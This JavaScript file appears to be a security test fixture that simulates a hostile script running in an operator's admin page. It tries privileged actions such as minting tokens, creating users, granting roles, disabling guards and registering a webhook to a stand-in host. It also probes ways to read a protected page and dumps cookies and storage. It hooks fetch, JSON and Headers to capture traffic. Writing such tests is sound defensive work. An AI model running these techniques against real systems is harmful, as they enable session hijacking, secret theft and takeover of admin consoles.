// The code of a hostile team, as it runs in a page of an operator. Each try answers with what it got.
const base = '/app/manage/overview'
const found = (text) => /"consoleProof":"([^"]+)"/.exec(String(text))?.[1] ?? 'no proof'

async function call(method, path, body, headers = {}) {
  const reply = await fetch(path, {
    method,
    headers: { 'content-type': 'application/json', ...headers },
    ...(body && { body: JSON.stringify(body) }),
  })
  const text = await reply.text()
  const code = /"code":"([^"]+)"/.exec(text)?.[1]
  return code ?? `${reply.status} ${text.slice(0, 200)}`
}

async function readHtml(options) {
  try {
    return found(await (await fetch(base, options)).text())
  } catch {
    return 'no proof'
  }
}

function readByRequest(address) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest()
    request.open('GET', address)
    try {
      request.setRequestHeader('Sec-Fetch-Dest', 'document')
    } catch {}
    request.onloadend = () => resolve(found(request.responseText))
    request.send()
  })
}

const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms))

async function look(read) {
  await wait(2500)
  try {
    return found(read()?.documentElement.outerHTML)
  } catch {
    return 'no proof'
  }
}

async function readStored() {
  const stores = [localStorage, sessionStorage].map((store) => JSON.stringify({ ...store }))
  const names = await caches.keys()
  const cached = await Promise.all(names.map(async (name) => (await caches.open(name)).keys()))
  const databases = await indexedDB.databases()
  const entries = performance.getEntries().map(({ name }) => name)
  return [...stores, document.cookie, window.name, JSON.stringify([cached, databases, entries])]
}

const controls = {
  token: () => call('POST', '/manage/remotes/live/tokens', { name: 'theirs', days: 1 }),
  'own token': () =>
    call('POST', '/manage/operator-tokens', {
      name: 'theirs',
      days: 1,
      rights: ['slipway.manage'],
    }),
  user: () => call('POST', '/manage/users', { email: 'theirs@e2e.example', name: 'T', roles: [] }),
  role: () => call('POST', '/manage/users/1/roles', { role: 'operator', tenant: null }),
  layout: () =>
    call(
      'PUT',
      '/manage/layout',
      { layout: { entries: {}, order: {} }, why: 'x' },
      { 'if-match': '"0"' },
    ),
  release: () =>
    call(
      'POST',
      '/manage/releases',
      { set: { live: { version: '1.0.0' } }, why: 'x' },
      { 'if-match': '"1"' },
    ),
  'roll back': () => call('POST', '/manage/releases/rollback', { why: 'x' }, { 'if-match': '"1"' }),
  'kill switch': () => call('POST', '/manage/remotes/live/disabled', { disabled: true, why: 'x' }),
  freeze: () => call('PUT', '/manage/releases/freeze', { why: 'x', until: null }),
  guard: () => call('PUT', '/manage/guard', { mode: 'off', why: 'x' }),
  webhook: () => call('POST', '/manage/webhooks', { url: 'https://theirs.example', events: [] }),
  undo: () => call('POST', '/manage/audit/1/undo', {}),
  secrets: () => call('GET', '/manage/tokens'),
  'step-up': (password) => call('POST', '/profile/confirm', { password }),
  'made-up proof': () =>
    call('GET', '/manage/tokens', undefined, { 'slipway-console': 'A'.repeat(43) }),
}

const proofs = {
  fetch: () => readHtml(),
  'fetch with headers': () =>
    readHtml({ headers: { 'Sec-Fetch-Dest': 'document', 'Sec-Fetch-Mode': 'navigate' } }),
  'fetch as a navigation': () => readHtml({ mode: 'navigate' }),
  'fetch from a cache': () => readHtml({ mode: 'same-origin', cache: 'force-cache' }),
  'fetch from a cache alone': () => readHtml({ mode: 'same-origin', cache: 'only-if-cached' }),
  'fetch in another spelling': async () =>
    found(await (await fetch('/app/%6DANAGE/overview')).text()),
  XMLHttpRequest: () => readByRequest(base),
  'a frame': () => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    frame.src = base
    return look(() => frame.contentDocument)
  },
  'an object': () => {
    const object = document.body.appendChild(document.createElement('object'))
    object.data = base
    return look(() => object.contentDocument)
  },
  'window.open': () => {
    const opened = window.open(base)
    return look(() => opened?.document)
  },
  'a named window': () => {
    const opened = window.open('', 'their-name')
    return look(() => opened?.document)
  },
  'a window that goes there later': async () => {
    const opened = window.open('/app/login')
    await wait(1000)
    if (opened) opened.location.href = base
    return look(() => opened?.document)
  },
  'a worker': async () => {
    const text = `fetch(${JSON.stringify(location.origin + base)}).then((r) => r.text()).then(postMessage, postMessage)`
    try {
      const worker = new Worker(URL.createObjectURL(new Blob([text])))
      return await Promise.race([
        new Promise((resolve) => (worker.onmessage = ({ data }) => resolve(found(data)))),
        wait(1500).then(() => 'no proof'),
      ])
    } catch {
      return 'no proof'
    }
  },
  'a service worker': async () => {
    const own = performance
      .getEntriesByType('resource')
      .find(({ name }) => /assets\/.*entry/.test(name))
    for (const [script, scope] of [
      [own?.name ?? '/assets/x.js', '/app/'],
      [own?.name ?? '/assets/x.js', '/'],
      ['/app/x.js', '/app/'],
    ])
      try {
        await navigator.serviceWorker.register(script, { scope })
        return `a worker of ${scope}`
      } catch {}
    return 'no proof'
  },
  'the opener': () => look(() => window.opener?.document),
  storage: async () => found((await readStored()).join(' ')),
}

// What the page heard of the other tabs, and what every patched function saw.
const heard = []
function listen() {
  for (const name of ['slipway', 'slipway-events', 'slipway:events', 'events'])
    new BroadcastChannel(name).onmessage = ({ data }) => heard.push(JSON.stringify(data))
  addEventListener('message', ({ data }) => heard.push(JSON.stringify(data)))
  addEventListener('storage', ({ newValue }) => heard.push(String(newValue)))
}

function patch(react) {
  const note = (what) => {
    try {
      heard.push(String(what))
      localStorage.setItem('heard', heard.join('\n').slice(-20_000))
    } catch {}
  }
  const { fetch: send } = window
  window.fetch = (...given) => {
    note(JSON.stringify([given[0], [...new Headers(given[1]?.headers)], given[1]?.body]))
    return send(...given)
  }
  const { parse, stringify } = JSON
  JSON.parse = (text, ...more) => {
    note(text)
    return parse(text, ...more)
  }
  JSON.stringify = (value, ...more) => {
    const text = stringify(value, ...more)
    if (heard.length < 500) heard.push(text)
    return text
  }
  const { set } = Headers.prototype
  Headers.prototype.set = function (...given) {
    note(given.join(': '))
    return set.apply(this, given)
  }
  Reflect.set(Object.prototype, 'consoleProof', 'A'.repeat(43))
  try {
    react.createElement = () => null
  } catch {}
}

globalThis.hostile = {
  controls: Object.keys(controls),
  proofs: Object.keys(proofs),
  take: (name, given) => controls[name](given),
  prove: (name) => proofs[name](),
  listen,
  patch: () => patch(React),
  heard: () => heard.join('\n'),
}
